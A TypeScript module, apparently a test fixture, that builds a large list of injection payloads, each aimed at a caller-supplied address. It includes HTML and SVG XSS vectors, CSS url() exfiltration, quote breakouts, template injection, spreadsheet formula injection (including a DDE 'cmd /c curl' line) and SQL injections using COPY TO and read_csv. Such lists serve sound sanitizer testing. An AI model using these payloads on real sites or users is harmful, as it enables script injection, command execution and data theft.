/** Markup that a browser would fetch something for, where it were taken for markup; `to` is an address of its own. */
type Vector = (to: string) => string;

const attributes: readonly [name: string, attribute: string][] = [
  ['img', 'src'],
  ['img', 'srcset'],
  ['image', 'src'],
  ['input type=image', 'src'],
  ['video', 'src'],
  ['video', 'poster'],
  ['audio', 'src'],
  ['video><source', 'src'],
  ['audio><source', 'src'],
  ['picture><source', 'srcset'],
  ['video><track default', 'src'],
  ['iframe', 'src'],
  ['frame', 'src'],
  ['embed', 'src'],
  ['object', 'data'],
  ['object><param name=src', 'value'],
  ['applet', 'code'],
  ['script', 'src'],
  ['script type=module', 'src'],
  ['body', 'background'],
  ['table', 'background'],
  ['table><td', 'background'],
  ['link rel=stylesheet', 'href'],
  ['link rel=icon', 'href'],
  ['link rel=prefetch', 'href'],
  ['link rel=preload as=image', 'href'],
  ['link rel=preload as=script', 'href'],
  ['link rel=modulepreload', 'href'],
  ['link rel=preconnect', 'href'],
  ['link rel=dns-prefetch', 'href'],
  ['link rel=manifest', 'href'],
  ['link rel=import', 'href'],
  ['base', 'href'],
  ['svg><image', 'href'],
  ['svg><image', 'xlink:href'],
  ['svg><use', 'href'],
  ['svg><feImage', 'href'],
  ['svg><script', 'href'],
  ['math><mi', 'xlink:href'],
  ['bgsound', 'src'],
  ['portal', 'src'],
  ['fencedframe', 'src'],
];

const styles: readonly Vector[] = [
  (to) => `background:url(${to})`,
  (to) => `background-image:image-set('${to}' 1x)`,
  (to) => `list-style:url(${to});display:list-item`,
  (to) => `border-image:url(${to}) 1;border:1px solid`,
  (to) => `mask-image:url(${to})`,
  (to) => `cursor:url(${to}),auto`,
  (to) => `content:url(${to})`,
  (to) => `filter:url(${to}#x)`,
];

const handlers = [
  'onerror',
  'onload',
  'onfocus autofocus',
  'onmouseover',
  'ontoggle',
  'onpointerover',
];

/** What ends the place that a text stands in, so that what follows would be markup. */
const breaks = ['">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '`>'];

const others: readonly Vector[] = [
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<style>@import url(${to});</style>`,
  (to) => `<style>*{background:url(${to})}</style>`,
  (to) => `<style>@font-face{font-family:x;src:url(${to})}*{font-family:x}</style>`,
  (to) => `<script>fetch('${to}')</script>`,
  (to) => `<script>new Image().src='${to}'</script>`,
  (to) => `<svg onload="fetch('${to}')">`,
  (to) => `<svg><animate attributeName=href to=${to} /></svg>`,
  (to) => `<svg><foreignObject><img src=${to}></foreignObject></svg>`,
  (to) => `<iframe srcdoc="<img src=${to}>">`,
  (to) => `<template shadowrootmode=open><img src=${to}></template>`,
  (to) => `<noscript><img src=${to}></noscript>`,
  (to) => `<xmp><img src=${to}></xmp><img src=${to}>`,
  (to) => `<math><mtext><table><mglyph><style><img src=${to}>`,
  (to) => `<form action=${to}><input name=a autofocus onfocus=this.form.submit()></form>`,
  (to) => `<button formaction=${to}>x</button>`,
  (to) => `<details open ontoggle="fetch('${to}')">`,
  (to) => `<a href="#" ping=${to}>x</a>`,
  (to) => `<a href="javascript:fetch('${to}')">x</a>`,
  (to) => `![picture](${to})`,
  (to) => `![picture][1]\n\n[1]: ${to}`,
  (to) => `[![picture](${to})](${to})`,
  (to) => `<img alt="a" src=${to}\n>`,
  (to) => `[x](javascript:fetch('${to}'))`,
  (to) =>
    `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}"/></svg>)`,
  (to) => `\`\`\`html\n<img src=${to}>\n\`\`\``,
  (to) => `<!--><img src=${to}>-->`,
  (to) => `<![CDATA[<img src=${to}>]]>`,
  (to) => `&lt;img src=${to}&gt;`,
  (to) => `%3Cimg src=${to}%3E`,
  (to) => `\\u003cimg src=${to}\\u003e`,
  (to) => `{{constructor.constructor("fetch('${to}')")()}}`,
  (to) => `\${fetch('${to}')}`,
  (to) => `<%= fetch('${to}') %>`,
  (to) => `=HYPERLINK("${to}","x")`,
  (to) => `=WEBSERVICE("${to}")`,
  (to) => `=IMPORTXML("${to}","//a")`,
  (to) => `@SUM(1)*cmd|'/c curl ${to}'!A0`,
  (to) => `'; COPY (SELECT 1) TO '${to}'; --`,
  (to) => `" FROM read_csv('${to}') --`,
  (to) => `x') UNION SELECT * FROM read_text('${to}') --`,
  (to) => to,
  (to) => `<${to}>`,
  (to) => `https:${to.replace('http:', '')}`,
];

/** The vectors, each other than all before: elements, styles, handlers, breaks out of quotes, and the rest. */
export const hostileMarkup: readonly Vector[] = [
  ...attributes.map(
    ([name, attribute]): Vector =>
      (to) =>
        `<${name} ${attribute}="${to}">`,
  ),
  ...attributes.map(
    ([name, attribute]): Vector =>
      (to) =>
        `<${name.toUpperCase()}/${attribute}=${to} `,
  ),
  ...styles.map(
    (style): Vector =>
      (to) =>
        `<b style="${style(to)}">x</b>`,
  ),
  ...handlers.map(
    (handler): Vector =>
      (to) =>
        `<input ${handler}="fetch('${to}')" src=x>`,
  ),
  ...handlers.map(
    (handler): Vector =>
      (to) =>
        `<img src=x ${handler}=fetch('${to}')>`,
  ),
  ...breaks.map(
    (end): Vector =>
      (to) =>
        `${end}<img src=${to}>`,
  ),
  ...breaks.map(
    (end): Vector =>
      (to) =>
        `a${end}<svg/onload=fetch('${to}')>`,
  ),
  ...others,
];
